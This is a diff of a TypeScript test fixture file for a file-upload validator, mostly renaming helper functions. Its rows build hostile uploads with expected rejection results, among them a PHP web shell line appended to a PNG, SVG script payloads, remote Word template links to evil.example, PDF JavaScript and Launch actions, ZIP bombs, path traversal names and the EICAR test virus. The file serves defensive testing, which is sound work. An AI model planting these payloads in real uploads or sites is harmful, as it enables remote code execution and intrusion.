@@ -2,20 +2,20 @@ import { deflateSync } from "node:zlib";
 import type { UploadPurpose } from "@boab/contracts/uploads/uploads";
 import {
   addJpegComment,
-  docx,
+  createImage,
   eicar,
   hiddenWord,
-  jpeg,
   makeDocm,
+  makeDocx,
+  makeJpeg,
   makeOle,
   makeOverlappingDocx,
+  makePdf,
   makePhotoWithPlace,
+  makePng,
+  makePngChunk,
   makeTightPng,
-  pdf,
-  picture,
-  png,
-  pngChunk,
-  webp,
+  makeWebp,
   zip,
 } from "./make-files.ts";
 
@@ -46,71 +46,76 @@ const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>a
 const php = "<?php system($_GET['c']); ?>";
 const gif = Buffer.from("R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==", "base64");
 const bmp = Buffer.concat([Buffer.from("BM"), Buffer.alloc(200)]);
-const tiff = () => picture(20, 20).tiff().toBuffer();
+const makeTiff = () => createImage(20, 20).tiff().toBuffer();
 const avif = Buffer.from("0000001c6674797061766966000000006d696631617669666d696166", "hex");
 const heic = Buffer.from("0000001c6674797068656963000000006d6966316865696368657663", "hex");
 const exe = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(500)]);
 const appendBytes = async (start: Promise<Buffer> | Buffer, end: string | Buffer) =>
   Buffer.concat([await start, Buffer.from(end)]);
-const part = async (file: Promise<Buffer>, share: number) => {
+const takeStart = async (file: Promise<Buffer>, fraction: number) => {
   const bytes = await file;
-  return bytes.subarray(0, Math.floor(bytes.length * share));
+  return bytes.subarray(0, Math.floor(bytes.length * fraction));
 };
 const makeBlankBytes = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024, 0x20);
 const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>${hiddenWord}</exif:GPSLatitude></x:xmpmeta>`;
-const textChunk = pngChunk("tEXt", Buffer.from(`Comment\0${hiddenWord}`));
+const textChunk = makePngChunk("tEXt", Buffer.from(`Comment\0${hiddenWord}`));
 
 const pictures: Row[] = [
-  ["a JPEG", () => jpeg(), "jpeg", "ready"],
-  ["a PNG", () => png(), "png", "ready"],
-  ["a WebP", () => webp(), "webp", "ready"],
-  ["a grey picture", () => picture(300, 200).greyscale().png().toBuffer(), "png", "ready"],
-  ["a picture of one pixel", () => png(1, 1), "png", "ready"],
+  ["a JPEG", () => makeJpeg(), "jpeg", "ready"],
+  ["a PNG", () => makePng(), "png", "ready"],
+  ["a WebP", () => makeWebp(), "webp", "ready"],
+  ["a grey picture", () => createImage(300, 200).greyscale().png().toBuffer(), "png", "ready"],
+  ["a picture of one pixel", () => makePng(1, 1), "png", "ready"],
   ["a JPEG with its place", () => makePhotoWithPlace("jpeg"), "jpeg", "ready"],
   ["a WebP with its place", () => makePhotoWithPlace("webp"), "webp", "ready"],
   ["a PNG with its place", () => makePhotoWithPlace("png"), "png", "ready"],
   ["a JPEG lying on its side", () => makePhotoWithPlace("jpeg", 8), "jpeg", "ready"],
   [
     "a JPEG with a word in a comment",
-    async () => addJpegComment(await jpeg(), hiddenWord),
+    async () => addJpegComment(await makeJpeg(), hiddenWord),
     "jpeg",
     "ready",
   ],
   [
     "a JPEG with a script in a comment",
-    async () => addJpegComment(await jpeg(), html),
+    async () => addJpegComment(await makeJpeg(), html),
     "jpeg",
     "ready",
   ],
-  ["a JPEG with XMP in a comment", async () => addJpegComment(await jpeg(), xmp), "jpeg", "ready"],
+  [
+    "a JPEG with XMP in a comment",
+    async () => addJpegComment(await makeJpeg(), xmp),
+    "jpeg",
+    "ready",
+  ],
   [
     "a PNG with a word in a text",
     async () => {
-      const bytes = await png();
+      const bytes = await makePng();
       return Buffer.concat([bytes.subarray(0, 33), textChunk, bytes.subarray(33)]);
     },
     "png",
     "ready",
   ],
-  ["a JPEG and a page", () => appendBytes(jpeg(), html), "jpeg", "ready"],
+  ["a JPEG and a page", () => appendBytes(makeJpeg(), html), "jpeg", "ready"],
   [
     "a JPEG and a ZIP",
-    () => appendBytes(jpeg(), zip([{ name: "a.exe", text: exe }])),
+    () => appendBytes(makeJpeg(), zip([{ name: "a.exe", text: exe }])),
     "jpeg",
     "ready",
   ],
-  ["a PNG and PHP", () => appendBytes(png(), php), "png", "ready"],
-  ["a WebP and a page", () => appendBytes(webp(), html), "webp", "ready"],
-  ["a PNG and the test virus", () => appendBytes(png(), eicar), "png", "virus"],
+  ["a PNG and PHP", () => appendBytes(makePng(), php), "png", "ready"],
+  ["a WebP and a page", () => appendBytes(makeWebp(), html), "webp", "ready"],
+  ["a PNG and the test virus", () => appendBytes(makePng(), eicar), "png", "virus"],
   [
     "49 megapixels, a JPEG on its side",
     () => makePhotoWithPlace("jpeg", 6, [7000, 7000]),
     "jpeg",
     "ready",
   ],
-  ["49 megapixels, a PNG", () => png(7000, 7000), "png", "ready"],
-  ["49 megapixels, a WebP", () => webp(7000, 7000), "webp", "ready"],
-  ["a picture 16 pixels high", () => png(30_000, 16), "png", "ready"],
+  ["49 megapixels, a PNG", () => makePng(7000, 7000), "png", "ready"],
+  ["49 megapixels, a WebP", () => makeWebp(7000, 7000), "webp", "ready"],
+  ["a picture 16 pixels high", () => makePng(30_000, 16), "png", "ready"],
   ["81 megapixels", () => makeTightPng(9_000, 9_000), "png", "tooManyPixels"],
   ["196 megapixels", () => makeTightPng(14_000, 14_000), "png", "tooManyPixels"],
   ["289 megapixels", () => makeTightPng(17_000, 17_000), "png", "tooManyPixels"],
@@ -128,20 +133,20 @@ const pictures: Row[] = [
   ["a GIF", () => gif, "png", "wrongType"],
   ["a GIF with a script", () => appendBytes(gif, "=1;alert(1)"), "jpeg", "wrongType"],
   ["a BMP", () => bmp, "png", "wrongType"],
-  ["a TIFF", tiff, "jpeg", "wrongType"],
+  ["a TIFF", makeTiff, "jpeg", "wrongType"],
   ["an AVIF", () => avif, "webp", "wrongType"],
   ["a HEIC", () => heic, "jpeg", "wrongType"],
   ["a program", () => exe, "png", "wrongType"],
-  ["a PDF", () => pdf(), "jpeg", "wrongType"],
-  ["a PNG called a JPEG", () => png(), "jpeg", "wrongType"],
-  ["a JPEG called a WebP", () => jpeg(), "webp", "wrongType"],
+  ["a PDF", () => makePdf(), "jpeg", "wrongType"],
+  ["a PNG called a JPEG", () => makePng(), "jpeg", "wrongType"],
+  ["a JPEG called a WebP", () => makeJpeg(), "webp", "wrongType"],
   ["nothing", () => Buffer.alloc(0), "jpeg", "missing"],
   ["one byte", () => Buffer.from([0xff]), "jpeg", "wrongType"],
   ["zeros", () => Buffer.alloc(5_000), "jpeg", "wrongType"],
-  ["the start of a JPEG", async () => (await jpeg()).subarray(0, 20), "jpeg", "broken"],
-  ["half a JPEG", () => part(jpeg(2_000, 2_000), 0.5), "jpeg", "broken"],
-  ["half a PNG", () => part(png(2_000, 2_000), 0.5), "png", "broken"],
-  ["half a WebP", () => part(makePhotoWithPlace("webp"), 0.5), "webp", "broken"],
+  ["the start of a JPEG", async () => (await makeJpeg()).subarray(0, 20), "jpeg", "broken"],
+  ["half a JPEG", () => takeStart(makeJpeg(2_000, 2_000), 0.5), "jpeg", "broken"],
+  ["half a PNG", () => takeStart(makePng(2_000, 2_000), 0.5), "png", "broken"],
+  ["half a WebP", () => takeStart(makePhotoWithPlace("webp"), 0.5), "webp", "broken"],
   [
     "a JPEG's first bytes and a page",
     () => appendBytes(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html),
@@ -150,7 +155,7 @@ const pictures: Row[] = [
   ],
   [
     "a JPEG with too many bytes behind it",
-    () => appendBytes(jpeg(), makeBlankBytes(26)),
+    () => appendBytes(makeJpeg(), makeBlankBytes(26)),
     "jpeg",
     "tooLarge",
   ],
@@ -161,9 +166,9 @@ const makeRelationships = (target: string, type = "http://x/attachedTemplate") =
   text: `<Relationships><Relationship Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
 });
 
-const links = (text: string) => ({ name: "word/_rels/document.xml.rels", text });
+const makeLinksPart = (text: string) => ({ name: "word/_rels/document.xml.rels", text });
 const linked = (type: string) =>
-  links(
+  makeLinksPart(
     `<Relationship Id="r1" Type="${type}" Target="http://evil.example/a" TargetMode="External"/>`,
   );
 
@@ -175,77 +180,89 @@ function makePackedPdf(object: string, more = "", filter = "/Filter/FlateDecode"
     body,
     Buffer.from("\nendstream endobj\n"),
   ]);
-  return Buffer.concat([Buffer.from("%PDF-1.7\n"), stream, pdf(more).subarray(9)]);
+  return Buffer.concat([Buffer.from("%PDF-1.7\n"), stream, makePdf(more).subarray(9)]);
 }
 
 const documents: Row[] = [
-  ["a PDF", () => pdf(), "pdf", "ready"],
+  ["a PDF", () => makePdf(), "pdf", "ready"],
   ["a DOC", () => makeOle("WordDocument"), "doc", "ready"],
-  ["a DOCX", () => docx(), "docx", "ready"],
+  ["a DOCX", () => makeDocx(), "docx", "ready"],
   [
     "a DOCX with pictures",
-    () => docx([{ name: "word/media/image1.png", text: makeTightPng(99, 99) }]),
+    () => makeDocx([{ name: "word/media/image1.png", text: makeTightPng(99, 99) }]),
     "docx",
     "ready",
   ],
-  ["a PDF and a long page behind it", () => appendBytes(pdf(), html.repeat(40)), "pdf", "broken"],
-  ["half a PDF", () => pdf().subarray(0, 30), "pdf", "broken"],
+  [
+    "a PDF and a long page behind it",
+    () => appendBytes(makePdf(), html.repeat(40)),
+    "pdf",
+    "broken",
+  ],
+  ["half a PDF", () => makePdf().subarray(0, 30), "pdf", "broken"],
   ["a page called a PDF", () => Buffer.from(html), "pdf", "wrongType"],
-  ["a page before a PDF", () => appendBytes(Buffer.from(html), pdf()), "pdf", "wrongType"],
-  ["a DOCX called a PDF", () => docx(), "pdf", "wrongType"],
-  ["a picture called a PDF", () => png(), "pdf", "wrongType"],
+  ["a page before a PDF", () => appendBytes(Buffer.from(html), makePdf()), "pdf", "wrongType"],
+  ["a DOCX called a PDF", () => makeDocx(), "pdf", "wrongType"],
+  ["a picture called a PDF", () => makePng(), "pdf", "wrongType"],
   ["a DOC with macros", () => makeOle("WordDocument", "Macros", "_VBA_PROJECT"), "doc", "macros"],
   ["a spreadsheet called a DOC", () => makeOle("Workbook"), "doc", "wrongType"],
   ["a DOCM", makeDocm, "docx", "macros"],
   [
     "a DOCM that says it is a DOCX",
-    () => docx([{ name: "word/vbaProject.bin", text: "x" }]),
+    () => makeDocx([{ name: "word/vbaProject.bin", text: "x" }]),
     "docx",
     "macros",
   ],
   [
     "a DOCX with hidden macro data",
-    () => docx([{ name: "word/VbaData.xml", text: "x" }]),
+    () => makeDocx([{ name: "word/VbaData.xml", text: "x" }]),
     "docx",
     "macros",
   ],
   [
     "a DOCX with a template elsewhere",
-    () => docx([makeRelationships("http://evil.example/t.dotm")]),
+    () => makeDocx([makeRelationships("http://evil.example/t.dotm")]),
     "docx",
     "macros",
   ],
   ...["oleObject", "frame", "image", "subDocument", "afChunk"].map(
     (kind): Row => [
       `a DOCX with an external ${kind}`,
-      () => docx([linked(`http://x/${kind}`)]),
+      () => makeDocx([linked(`http://x/${kind}`)]),
       "docx",
       "activeContent",
     ],
   ),
-  ["a DOCX with hyperlinks", () => docx([linked("http://x/hyperlink")]), "docx", "ready"],
+  ["a DOCX with hyperlinks", () => makeDocx([linked("http://x/hyperlink")]), "docx", "ready"],
   [
     "a DOCX whose external picture is written with other quotes and spaces",
     () =>
-      docx([links("<Relationship Type='http://x/image' TargetMode = 'External' Target='//h/a'/>")]),
+      makeDocx([
+        makeLinksPart(
+          "<Relationship Type='http://x/image' TargetMode = 'External' Target='//h/a'/>",
+        ),
+      ]),
     "docx",
     "activeContent",
   ],
   [
     "a DOCX whose list of links declares an entity",
-    () => docx([links('<!DOCTYPE a [<!ENTITY e "External">]><Relationship TargetMode="&e;"/>')]),
+    () =>
+      makeDocx([
+        makeLinksPart('<!DOCTYPE a [<!ENTITY e "External">]><Relationship TargetMode="&e;"/>'),
+      ]),
     "docx",
     "activeContent",
   ],
   [
     "a DOCX with an embedded file",
-    () => docx([{ name: "word/embeddings/oleObject1.bin", text: "x" }]),
+    () => makeDocx([{ name: "word/embeddings/oleObject1.bin", text: "x" }]),
     "docx",
     "activeContent",
   ],
   [
     "a DOCX with a control",
-    () => docx([{ name: "word/activeX/activeX1.xml", text: "x" }]),
+    () => makeDocx([{ name: "word/activeX/activeX1.xml", text: "x" }]),
     "docx",
     "activeContent",
   ],
@@ -274,7 +291,7 @@ const documents: Row[] = [
   ].map(
     (object): Row => [
       `a PDF with ${object}`,
-      () => pdf(`7 0 obj${object}endobj\n`),
+      () => makePdf(`7 0 obj${object}endobj\n`),
       "pdf",
       "activeContent",
     ],
@@ -308,20 +325,20 @@ const documents: Row[] = [
   ],
   [
     "a PDF with a script behind an open bracket",
-    () => pdf("( 7 0 obj<</S/JavaScript>>endobj\n"),
+    () => makePdf("( 7 0 obj<</S/JavaScript>>endobj\n"),
     "pdf",
     "activeContent",
   ],
   [
     "a PDF with a script between a false stream's ends",
-    () => pdf("%>>stream\n7 0 obj<</S/Launch>>endobj\nendstream\n"),
+    () => makePdf("%>>stream\n7 0 obj<</S/Launch>>endobj\nendstream\n"),
     "pdf",
     "activeContent",
   ],
   [
     "a PDF with a link, a place to open at, and a title about /JS",
     () =>
-      pdf(
+      makePdf(
         "7 0 obj<</OpenAction[3 0 R/Fit]/Title(React/JS developer)/A<</S/URI/URI(http://x)>>>>endobj\n",
       ),
     "pdf",
@@ -330,52 +347,54 @@ const documents: Row[] = [
   ["a ZIP", () => zip([{ name: "a.txt", text: "a" }]), "docx", "wrongType"],
   [
     "a ZIP bomb",
-    () => docx([{ name: "word/bomb.xml", text: makeBlankBytes(50) }]),
+    () => makeDocx([{ name: "word/bomb.xml", text: makeBlankBytes(50) }]),
     "docx",
     "packedTooTightly",
   ],
   [
     "a ZIP bomb of 70 MB",
-    () => docx([{ name: "word/bomb.xml", text: makeBlankBytes(70) }]),
+    () => makeDocx([{ name: "word/bomb.xml", text: makeBlankBytes(70) }]),
     "docx",
     "packedTooTightly",
   ],
   [
     "a ZIP bomb that lies about its size",
-    () => docx([{ name: "word/bomb.xml", text: makeBlankBytes(40), claimedSize: 100 }]),
+    () => makeDocx([{ name: "word/bomb.xml", text: makeBlankBytes(40), claimedSize: 100 }]),
     "docx",
     "packedTooTightly",
   ],
   [
     "a DOCX of thousands of parts",
-    () => docx(Array.from({ length: 2_500 }, (_, index) => ({ name: `word/${index}`, text: "" }))),
+    () =>
+      makeDocx(Array.from({ length: 2_500 }, (_, index) => ({ name: `word/${index}`, text: "" }))),
     "docx",
     "packedTooTightly",
   ],
   [
     "a DOCX with a template elsewhere, written in character references",
-    () => docx([makeRelationships("http://evil.example/>", "http://x/&#97;ttached&#x54;emplate")]),
+    () =>
+      makeDocx([makeRelationships("http://evil.example/>", "http://x/&#97;ttached&#x54;emplate")]),
     "docx",
     "macros",
   ],
   ["a DOCX with parts that share their bytes", makeOverlappingDocx, "docx", "broken"],
   [
     "a DOCX with a name that leads out of it",
-    () => docx([{ name: "../../etc/passwd", text: "x" }]),
+    () => makeDocx([{ name: "../../etc/passwd", text: "x" }]),
     "docx",
     "broken",
   ],
-  ["a locked DOCX", () => docx([], undefined, 1), "docx", "broken"],
-  ["half a DOCX", () => docx().subarray(0, 250), "docx", "broken"],
+  ["a locked DOCX", () => makeDocx([], undefined, 1), "docx", "broken"],
+  ["half a DOCX", () => makeDocx().subarray(0, 250), "docx", "broken"],
   [
     "a DOCX with the test virus inside",
-    () => docx([{ name: "word/a.bin", text: eicar }]),
+    () => makeDocx([{ name: "word/a.bin", text: eicar }]),
     "docx",
     "virus",
   ],
   ["the test virus", () => Buffer.from(eicar), "pdf", "virus"],
-  ["a PDF with the test virus", () => pdf(eicar), "pdf", "virus"],
-  ["too large a PDF", () => appendBytes(pdf(), makeBlankBytes(6)), "pdf", "tooLarge"],
+  ["a PDF with the test virus", () => makePdf(eicar), "pdf", "virus"],
+  ["too large a PDF", () => appendBytes(makePdf(), makeBlankBytes(6)), "pdf", "tooLarge"],
 ];
 
 const toFiles = (rows: Row[], purpose: UploadPurpose): HostileFile[] =>
